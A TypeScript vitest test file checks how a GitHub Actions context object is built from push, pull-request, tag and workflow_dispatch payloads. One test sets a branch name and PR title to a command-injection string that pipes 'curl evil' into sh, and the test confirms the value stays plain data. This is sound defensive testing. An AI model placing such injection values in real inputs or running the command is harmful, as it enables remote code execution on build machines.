import { describe, expect, it } from "vitest";
import { buildGithubContext } from "./build-github-context.ts";
import type { GithubContextInput } from "./build-github-context.ts";
import { defaultEventPayload } from "./default-event-payload.ts";
import { makeGitInfo } from "./git-info-fixture.ts";
import { mergeEventPayload } from "./merge-event-payload.ts";

const git = makeGitInfo();

function ctx(eventName: string, over: Partial<GithubContextInput> = {}) {
  return buildGithubContext({
    eventName,
    payload: defaultEventPayload(eventName, git),
    git,
    workspace: "/home/runner/work/app/app",
    runId: 42,
    runNumber: 7,
    runAttempt: 1,
    workflow: "CI",
    workflowFile: ".github/workflows/ci.yml",
    ...over,
  });
}

describe("buildGithubContext", () => {
  it("fills the push context from the payload and the repository", () => {
    const c = ctx("push", { job: "build" });
    expect(c).toMatchObject({
      event_name: "push",
      sha: git.sha,
      ref: "refs/heads/feature/login",
      ref_name: "feature/login",
      ref_type: "branch",
      ref_protected: false,
      base_ref: "",
      head_ref: "",
      repository: "octo/app",
      repository_owner: "octo",
      repositoryUrl: "git://github.com/octo/app.git",
      actor: "ada",
      triggering_actor: "ada",
      workspace: "/home/runner/work/app/app",
      run_id: "42",
      run_number: "7",
      run_attempt: "1",
      job: "build",
      workflow: "CI",
      workflow_ref: "octo/app/.github/workflows/ci.yml@refs/heads/feature/login",
      server_url: "https://github.com",
      api_url: "https://api.github.com",
      graphql_url: "https://api.github.com/graphql",
      action: "",
      action_path: "",
      retention_days: "90",
      secret_source: "None",
    });
    expect((c.event as Record<string, unknown>).after).toBe(git.sha);
    expect(c).not.toHaveProperty("token");
  });

  it("reports a tag push as ref_type tag", () => {
    const payload = mergeEventPayload(defaultEventPayload("push", git), {
      ref: "refs/tags/v2.1.0",
    });
    const c = ctx("push", { payload });
    expect(c.ref).toBe("refs/tags/v2.1.0");
    expect(c.ref_name).toBe("v2.1.0");
    expect(c.ref_type).toBe("tag");
  });

  it("uses refs/pull/<n>/merge, the PR head's sha and the head and base branches for pull_request", () => {
    const headSha = "e".repeat(40);
    const payload = mergeEventPayload(defaultEventPayload("pull_request", git), {
      number: 17,
      pull_request: {
        number: 17,
        head: { ref: "fix/typo", sha: headSha },
        base: { ref: "release" },
      },
    });
    const c = ctx("pull_request", { payload });
    expect(c.ref).toBe("refs/pull/17/merge");
    expect(c.ref_name).toBe("17/merge");
    expect(c.sha).toBe(headSha);
    expect(c.head_ref).toBe("fix/typo");
    expect(c.base_ref).toBe("release");
  });

  it("lets a payload from -e decide ref, sha, repository and actor", () => {
    const payload = mergeEventPayload(defaultEventPayload("push", git), {
      ref: "refs/heads/other",
      after: "f".repeat(40),
      repository: { full_name: "someone/else", owner: { login: "someone", id: 9 }, id: 123 },
      sender: { login: "bot" },
    });
    const c = ctx("push", { payload });
    expect(c).toMatchObject({
      ref: "refs/heads/other",
      sha: "f".repeat(40),
      repository: "someone/else",
      repository_owner: "someone",
      repository_id: "123",
      repository_owner_id: "9",
      actor: "bot",
    });
  });

  it("keeps hostile branch names and titles as plain data", () => {
    const evil = 'a"; curl evil|sh; echo "$(id)';
    const payload = mergeEventPayload(defaultEventPayload("pull_request", git), {
      pull_request: { title: evil, head: { ref: evil } },
    });
    const c = ctx("pull_request", { payload });
    expect(c.head_ref).toBe(evil);
    expect((c.event as Record<string, Record<string, unknown>>).pull_request!.title).toBe(evil);
  });

  it("copies the payload so later changes to it do not leak into the context", () => {
    const payload = defaultEventPayload("push", git);
    const c = ctx("push", { payload });
    payload.ref = "refs/heads/changed";
    expect((c.event as Record<string, unknown>).ref).toBe("refs/heads/feature/login");
  });

  it("includes the token only when given and honours an explicit actor", () => {
    const c = ctx("push", { token: "ghs_abc", actor: "override" });
    expect(c.token).toBe("ghs_abc");
    expect(c.actor).toBe("override");
  });

  it("derives API and GraphQL URLs for a GitHub Enterprise server", () => {
    const c = ctx("push", { serverUrl: "https://ghe.example.test/" });
    expect(c.server_url).toBe("https://ghe.example.test");
    expect(c.api_url).toBe("https://ghe.example.test/api/v3");
    expect(c.graphql_url).toBe("https://ghe.example.test/api/graphql");
    expect(c.repositoryUrl).toBe("git://ghe.example.test/octo/app.git");
  });

  it("takes workflow_dispatch's ref from its payload", () => {
    const payload = mergeEventPayload(defaultEventPayload("workflow_dispatch", git), {
      ref: "release/1.x",
    });
    expect(ctx("workflow_dispatch", { payload }).ref).toBe("refs/heads/release/1.x");
  });
});
